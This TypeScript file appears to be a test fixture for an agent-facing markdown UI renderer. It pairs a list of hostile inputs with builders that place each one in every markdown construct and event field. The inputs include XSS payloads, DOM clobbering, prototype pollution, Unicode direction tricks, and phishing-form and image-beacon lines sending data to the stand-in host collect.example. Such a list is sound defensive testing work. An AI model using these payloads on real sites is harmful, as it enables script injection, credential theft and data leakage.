/** Hostile words of our own, and every place that an agent can put words in. */

/** Markup, addresses, code and letters that want to be more than words. No coarse words. */
export const cargo: Readonly<Record<string, string>> = {
  script: '<script>probeRan(1)</script>',
  handler: '<img src=x onerror=probeRan(1)>',
  'svg handler': '<svg onload=probeRan(1)><animate onbegin=probeRan(1) attributeName=x dur=1s>',
  'broken quotes': `"><b onmouseover='probeRan(1)'>x</b><p title="`,
  'single quotes': `' onfocus=probeRan(1) autofocus x='`,
  frame: '<iframe srcdoc="<script>parent.probeRan(1)</script>"></iframe>',
  form: '<form action=https://collect.example><input type=password name=p><button>Sign in</button></form>',
  style: '<style>*{position:fixed}</style><p style="position:fixed;inset:0;background:url(https://collect.example/c)">over</p>',
  template: '<template shadowrootmode=open><script>probeRan(1)</script></template>',
  'own element': '<mdui-button action=x onclick=probeRan(1)>Go</mdui-button><mdui-message markdown="# x"></mdui-message>',
  'other element': '<x-gadget onclick=probeRan(1) is=x></x-gadget>',
  clobbering: '<a id=document name=body></a><img name=getElementById><form id=forms><input name=attributes><input id=nodeName></form>',
  math: '<math><mtext><table><mglyph><style><img src=x onerror=probeRan(1)></style></mglyph></table></mtext></math>',
  comment: '<!--><img src=x onerror=probeRan(1)>-->',
  entities: '&lt;img src=x onerror=probeRan(1)&gt; &#60;script&#62;probeRan(1)&#60;/script&#62;',
  'script address': '[x](javascript:probeRan(1)) javascript:probeRan(1) <javascript:probeRan(1)>',
  'hidden scheme': '[x](java&#x73;cript&colon;probeRan(1)) [y](&#1;javascript:probeRan(1)) [z](java&Tab;script:probeRan(1)) [w](java\\nscript:probeRan(1))',
  'data address': '[x](data:text/html,%3Cscript%3EprobeRan(1)%3C/script%3E) ![y](data:image/svg+xml,%3Csvg%20onload=probeRan(1)%3E)',
  image: '![words](https://collect.example/i.png?q=words) ![r][r]',
  'user information': '[x](https://bank.example@collect.example/) [y](https:\\\\collect.example) [z](//user:pass@collect.example)',
  media: '<video src=https://collect.example/v autoplay><audio src=https://collect.example/a autoplay><object data=https://collect.example/o><embed src=https://collect.example/e><link rel=prefetch href=https://collect.example/p><meta http-equiv=refresh content="0;url=https://collect.example/m"><base href=https://collect.example/>',
  backgrounds: '<table background=https://collect.example/t><tr><td background=https://collect.example/d>x</td></tr></table><body background=https://collect.example/b>',
  direction: '\u202egnp.exe\u202c \u2066x\u2069 a\u200bb \u{e0041}\u{e0042}',
  nulls: 'a\0b <scr\0ipt>probeRan(1)</scr\0ipt> \ud800',
  directive: '\n:::button {action=x}\nGo\n:::\n',
  action: '[Go](action:probe) - [Go](action:probe) {kind=danger}',
  markup: '**b** `c` [l](https://a.example) <kbd>k</kbd> | a | {x=y} ::: - ( ) o',
  template2: '${probeRan(1)} {{constructor.constructor("probeRan(1)")()}} <%= probeRan(1) %>',
  pollution: '__proto__',
  constructor: 'constructor.prototype.polluted',
};

const one = (text: string): string => text.replace(/[\r\n]+/g, ' ');
const quoted = (text: string): string => one(text).replace(/\\/g, '\\\\').replace(/"/g, '\\"');

/** Text of a message with the words in one place of it. */
export const places: Readonly<Record<string, (words: string) => string>> = {
  paragraph: (words) => `Before ${words} after`,
  'own block': (words) => `${words}\n\nafter`,
  heading: (words) => `# ${one(words)}\n`,
  'list item': (words) => `- ${words}\n- two`,
  quote: (words) => `> ${one(words)}\n`,
  'table cell': (words) => `| a | b |\n| - | - |\n| ${one(words).replaceAll('|', '\\|')} | 2 |\n`,
  'link text': (words) => `[${one(words)}](https://a.example)`,
  'link title': (words) => `[x](https://a.example "${quoted(words)}")`,
  'link address': (words) => `[x](<${one(words).replace(/[<>]/g, '')}>)`,
  'image description': (words) => `![${one(words)}](https://a.example/i.png)`,
  'link definition': (words) => `[x][r]\n\n[r]: <${one(words).replace(/[<>]/g, '')}> "${quoted(words)}"`,
  'code language': (words) => `\`\`\`${one(words)}\ncode\n\`\`\`\n`,
  code: (words) => `\`${one(words)}\`\n\n    ${one(words)}\n`,
  footnote: (words) => `x[^1]\n\n[^1]: ${one(words)}`,
  'raw tag': (words) => `<span title="${one(words)}" lang="${one(words)}">x</span>\n\n<div title='${one(words)}'>y</div>\n`,
  summary: (words) => `<details><summary>${one(words)}</summary>\n\n${words}\n\n</details>\n`,
  'option label': (words) => `:::radio {#r label=R}\n- ( ) ${one(words)} {value=a}\n- ( ) ${one(words)}\n:::\n`,
  'option value and description': (words) => `:::checkgroup {#r label=R}\n- [x] A {value="${quoted(words)}" description="${quoted(words)}"}\n:::\n`,
  'select option': (words) => `:::select {#r label=R placeholder="${quoted(words)}"}\n- ${one(words)}\n- Group\n  - ${one(words)}\n:::\n`,
  'label and description': (words) => `:::input {#i label="${quoted(words)}" description="${quoted(words)}" placeholder="${quoted(words)}" value="${quoted(words)}"}\n${one(words)}\n:::\n`,
  'field attributes': (words) => `:::input {#i label=L type="${quoted(words)}" pattern="${quoted(words)}" autocomplete="${quoted(words)}" inputmode="${quoted(words)}" min="${quoted(words)}" error="${quoted(words)}" name="${quoted(words)}" onclick="${quoted(words)}" style="${quoted(words)}"}\n:::\n`,
  'initial text': (words) => `:::textarea {#t label=L}\n${words}\n:::\n`,
  'button and action': (words) => `:::button {#b action="${quoted(words)}" label="${quoted(words)}" kind="${quoted(words)}" type="${quoted(words)}"}\n${one(words)}\n:::\n`,
  'action list': (words) => `:::actions {#a label="${quoted(words)}"}\n- [${one(words)}](action:go) {value="${quoted(words)}"}\n- [Go](action:${one(words).replace(/[()]/g, '')})\n:::\n`,
  form: (words) => `:::form {#f action="${quoted(words)}" label="${quoted(words)}"}\n:::input {#i label=L}\n:::\n:::button\n${one(words)}\n:::\n:::\n`,
  error: (words) => `:::input {#i label=L required}\n:::\n\n:::error {for="${quoted(words)}"}\n${one(words)}\n:::\n\n:::error {for=#i}\n${one(words)}\n:::\n`,
  confirm: (words) => `:::button {action=go requires_confirmation=true}\nGo\n:::\n\n:::confirm {action=go}\n${words}\n:::\n`,
  'notice and status': (words) => `:::notice {kind="${quoted(words)}" title="${quoted(words)}"}\n${words}\n:::\n\n:::status {state="${quoted(words)}"}\n${words}\n:::\n`,
  progress: (words) => `:::progress {label="${quoted(words)}" value="${quoted(words)}" max="${quoted(words)}"}\n${one(words)}\n:::\n`,
  card: (words) => `:::card {title="${quoted(words)}" href="${quoted(words)}" image="${quoted(words)}"}\n${words}\n:::\n`,
  'tabs and accordion': (words) => `:::tabs\n:::tab {label="${quoted(words)}"}\n${words}\n:::\n:::\n\n:::accordion\n:::item {title="${quoted(words)}"}\n${words}\n:::\n:::\n`,
  ids: (words) => `:::input {#${one(words).replace(/[\s}]/g, '_')} label=L bind="${quoted(words)}"}\n:::\n`,
  classes: (words) => `:::card {.${one(words).replace(/[\s}]/g, '_')} class="${quoted(words)}" slot="${quoted(words)}" part="${quoted(words)}"}\nx\n:::\n`,
  'unknown directive': (words) => `:::gadget {label="${quoted(words)}" src="${quoted(words)}" onload="${quoted(words)}"}\n${words}\n:::\n`,
  'patch block': (words) => `:::card {#c title=T}\nx\n:::\n\n:::patch {target=#c reason="${quoted(words)}"}\ntitle: ${one(words)}\nhref: ${one(words)}\nimage: ${one(words)}\n:::\n\n:::patch {target=#c}\nbody: ${one(words)}\n:::\n`,
  'task item': (words) => `- [ ] ${one(words)} {#t}\n- [x] ${one(words)}\n`,
};

const opening = {type: 'md.open', message_id: 'm', version: 'amui-0.1'};
const set = (target: string, path: string, value: string): object => ({type: 'ui.patch', op: 'set', target, path, value, reason: value});

/** Events with the words in them. */
export const deliveries: Readonly<Record<string, (words: string) => readonly object[]>> = {
  'nodes of all kinds': (words) => [
    opening,
    ...['card', 'notice', 'status', 'progress', 'input', 'textarea', 'select', 'radio', 'button', 'form', 'error', 'tabs', 'accordion', 'gadget', words].map((component, index) => ({
      type: 'ui.node', id: `n${index}`, component, label: words, body: words, bind: words, options: [{label: words, value: words, description: words}],
      attributes: {title: words, href: words, image: words, description: words, placeholder: words, value: words, action: words, kind: words, state: words, type: words, innerHTML: words, onclick: words, style: words, [words]: words},
    })),
    {type: 'md.close'},
  ],
  'ids of nodes': (words) => [opening, {type: 'ui.node', id: words, component: 'input', label: 'L'}, {type: 'ui.node', id: words, component: 'card', parent: words}, {type: 'md.close', message_id: words}],
  'patches of text': (words) => [
    opening, {type: 'md.delta', append: ':::card {#c title=T}\nx\n:::\n\n:::input {#i label=L}\n:::\n\n:::radio {#r label=R}\n- A\n:::\n\n:::button {#b action=go}\nGo\n:::\n'},
    set('#c', '/title', words), set('#c', '/href', words), set('#c', '/image', words), set('#i', '/label', words), set('#i', '/value', words), set('#i', '/type', words), set('#i', '/pattern', words), set('#i', `/${words}`, words), set('#r', '/options/0/label', words), set('#b', '/action', words),
    {type: 'ui.patch', op: 'replace_body', target: '#c', markdown: words}, {type: 'ui.patch', op: 'append', target: '#b', markdown: words}, {type: 'ui.patch', op: words, target: words}, {type: 'md.close'},
    {type: 'ui.patch', op: 'append', target: '#c', markdown: words}, set('#r', '/label', words),
  ],
  'a stop and its reason': (words) => [opening, {type: 'md.delta', append: words}, {type: 'md.cancel', reason: words}],
  'an error': (words) => [opening, {type: 'md.delta', append: ':::input {#i label=L}\n'}, {type: 'md.error', message: words, code: words}],
  'a name of the message': (words) => [{...opening, message_id: words}, {type: 'md.delta', append: 'x', message_id: words}, {type: 'md.close'}],
  'a user who quotes': (words) => [{...opening, role: 'user'}, {type: 'md.delta', append: words}, {type: 'md.close'}],
};
